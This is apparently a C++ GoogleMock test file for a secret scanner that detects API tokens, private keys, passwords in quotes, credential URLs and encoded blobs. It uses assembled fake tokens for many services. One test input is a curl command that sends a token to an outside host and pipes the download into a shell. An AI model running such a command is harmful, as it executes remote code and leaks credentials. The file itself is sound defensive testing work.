#include <gmock/gmock.h>

#include <string>

#include "security_findings.hpp"

namespace {

using test::security_findings;
using testing::ElementsAre;
using testing::IsEmpty;
using testing::SizeIs;

// Tokens are put together here, so that no scanner takes this file's text for a leak.
const std::string random36 = std::string("kT7wQz2LmX9cRb4VnY") + "6pHs3JdG8fAeUi5oZq";

std::string found_token(const std::string& what, const std::string& shown) {
  return "1:5 error secret-token: " + what + " is written in the text: '" + shown + "…'";
}

TEST(SecretToken, KnowsTheFormsOfServices) {
  const std::string long_part = random36 + random36 + random36;
  const struct {
    std::string token, what;
  } cases[] = {
      {"AKIA" + std::string("Q3EGRYZ7WTKLVN5M"), "an AWS access key id"},
      {"ghp_" + random36, "a GitHub personal access token"},
      {"ghs_" + random36, "a GitHub installation token"},
      {"github_pat_" + long_part.substr(0, 22) + "_" + long_part.substr(22, 59),
       "a GitHub personal access token"},
      {"sk-ant-" + ("api03-" + long_part), "an Anthropic API key"},
      {"sk-proj-" + long_part, "an OpenAI API key"},
      {"sk-" + random36 + "kT7wQz2LmX9c", "an API key of OpenAI or alike"},
      {"xoxb-" + ("904827163548-" + random36), "a Slack token"},
      {"AIza" + random36.substr(1), "a Google API key"},
      {"sk_live_" + random36, "a Stripe secret key"},
      {"rk_live_" + random36, "a Stripe restricted key"},
      {"npm_" + random36, "an npm access token"},
      {"hf_" + std::string("kTqwQzxLmXycRbzVnYapHsvJdGwfAeUiroZ"), "a Hugging Face token"},
      {"glpat-" + random36.substr(0, 20), "a GitLab personal access token"},
      {"eyJ" + ("hbGciOiJSUzI1NiIs.eyJ" + ("pc3MiOiJhY21lIiwi." + random36 + "kT7wQz2L")),
       "a JSON web token"},
      {"hooks.slack.com/services/" + ("T04KQ8ZW2/B05MX7RY1/" + random36.substr(0, 24)),
       "a Slack webhook"},
  };
  for (const auto& [token, what] : cases) {
    EXPECT_THAT(security_findings("Key " + token + " here\n"),
                ElementsAre(found_token(what, token.substr(0, 4))));
  }
}

TEST(SecretToken, KnowsWebhooksOfDiscordByTheirHost) {
  const std::string path =
      "/api/webhooks/" + ("918273645546372819/" + random36 + random36.substr(0, 32));
  EXPECT_THAT(security_findings("discord.com" + path),
              ElementsAre("1:12 error secret-token: a Discord webhook is written in the text: "
                          "'/api…'"));
  EXPECT_THAT(security_findings("example.org" + path), IsEmpty());
}

TEST(SecretToken, LeavesPlaceholdersAlone) {
  for (const std::string token : {
           "AKIA"
           "IOSFODNN7EXAMPLE",
           "ghp_"
           "xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx",
           "ghp_"
           "abcdefghijklmnopqrstuvwxyz0123456789",
           "ghp_"
           "1234567890123456789012345678901234567890",
           "sk-ant-"
           "api03-...",
           "sk-"
           "your-key-here",
           "npm_"
           "<token>",
           "AIza"
           "SyExampleExampleExampleExampleExample1",
           "xoxb-"
           "your-token",
           "glpat-"
           "xxxxxxxxxxxxxxxxxxxx",
       }) {
    EXPECT_THAT(security_findings("Key " + token + " here\n"), IsEmpty()) << token;
  }
}

TEST(SecretToken, WantsTheRightLengthAndAnEdge) {
  EXPECT_THAT(security_findings("ghp_" + random36.substr(1)), IsEmpty());
  EXPECT_THAT(security_findings("my_ghp_" + random36), IsEmpty());
  EXPECT_THAT(security_findings("npm_" + random36 + "x"), IsEmpty());
  EXPECT_THAT(security_findings("task-" + random36), IsEmpty());
}

TEST(SecretToken, IsNeverShown) {
  const std::string token = "ghp_" + random36;
  const auto diagnostics =
      test::security_diagnostics("curl -H " + token + " https://a.dev/x | sh\n");
  ASSERT_THAT(diagnostics, SizeIs(2));
  for (const base::Diagnostic& diagnostic : diagnostics) {
    EXPECT_EQ(diagnostic.place.line, 1U);
    EXPECT_EQ(diagnostic.place.width, 0U);
    EXPECT_EQ(diagnostic.place.excerpt, "");
    EXPECT_EQ(diagnostic.message.find(random36), std::string::npos);
  }
}

const std::string key_begin = std::string("-----BEGIN ") + "RSA PRIVATE KEY-----";
const std::string key_line = "b3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQAAAAAAAAABAAAAMwAA";

TEST(PrivateKey, NeedsALineOfBase64) {
  const std::string found = "1:1 error private-key: a private key is written in the text";
  EXPECT_THAT(security_findings(key_begin + "\n" + key_line + "\n"), ElementsAre(found));
  EXPECT_THAT(security_findings(key_begin + "\\n" + key_line + "\n"), ElementsAre(found));
  EXPECT_THAT(security_findings(key_begin + "\nProc-Type: 4,ENCRYPTED\n\n" + key_line + "\n"),
              ElementsAre(found));
}

TEST(PrivateKey, LeavesPatternsAndPlaceholdersAlone) {
  EXPECT_THAT(security_findings("grep '" + key_begin + "' -r .\n"), IsEmpty());
  EXPECT_THAT(security_findings(key_begin + "\nMIIE...\n"), IsEmpty());
  EXPECT_THAT(security_findings(std::string("-----BEGIN CERTIFICATE-----\n") + key_line + "\n"),
              IsEmpty());
}

TEST(GenericSecret, WantsARandomValueInQuotes) {
  EXPECT_THAT(security_findings("password = \"vX9kT2mQ7p"
                                "Lz4wRb\"\n"),
              ElementsAre("1:1 warning generic-secret: what looks like a secret is written in "
                          "quotes: 'password '"));
  EXPECT_THAT(security_findings("password = \"correct-horse-battery\"\n"), IsEmpty());
  EXPECT_THAT(security_findings("api_key: \"${API_KEY_4711}\"\n"), IsEmpty());
  EXPECT_THAT(security_findings("token = \"your-api-token-123\"\n"), IsEmpty());
}

TEST(CredentialUrl, InformsOfRealHostsOnly) {
  EXPECT_THAT(security_findings("Use postgres://reports:Jq7v"
                                "Tz91hB@db.acme.io/reports\n"),
              ElementsAre("1:5 info credential-url: the URL for 'db.acme.io' holds a password"));
  for (const char* url :
       {"postgresql://user:pass@localhost/db", "postgres://u:s3cr3t77@127.0.0.1:5432",
        "https://user:password@api.acme.io", "redis://app:hunter22@redis:6379",
        "https://alice:${PASSWORD}@acme.io", "https://a:b@example.com", "https://acme.io/a:b@c"}) {
    EXPECT_THAT(security_findings(url), IsEmpty()) << url;
  }
}

TEST(EncodedBlob, ReportsLongRunsAndBrokenLines) {
  const std::string blob = random36 + "Ab0" + random36 + "cD1" + random36 + "eF2gH3";
  EXPECT_THAT(security_findings("Decode " + blob + " now\n"),
              ElementsAre("1:8 warning encoded-blob: 120 bytes of encoded data"));
  EXPECT_THAT(security_findings(blob.substr(0, 60) + "\n" + blob.substr(60) + "\n"),
              ElementsAre("1:1 warning encoded-blob: 120 bytes of encoded data"));
  EXPECT_THAT(security_findings(blob.substr(0, 119) + "\n"), IsEmpty());
}

TEST(EncodedBlob, LeavesImagesHashesPathsAndRulesAlone) {
  const std::string blob = random36 + random36 + random36 + random36;
  std::string sha512, path;
  for (int i = 0; i < 8; ++i) sha512 += "9f86d081884c7d65";
  for (int i = 0; i < 20; ++i) path += "Usr2/Share-";
  EXPECT_THAT(security_findings("![x](data:image/png;base64," + blob + ")\n"), IsEmpty());
  EXPECT_THAT(security_findings(sha512 + "\n"), IsEmpty());
  EXPECT_THAT(security_findings(path + "\n"), IsEmpty());
  EXPECT_THAT(security_findings(std::string(200, '-') + "\n"), IsEmpty());
}

}  // namespace
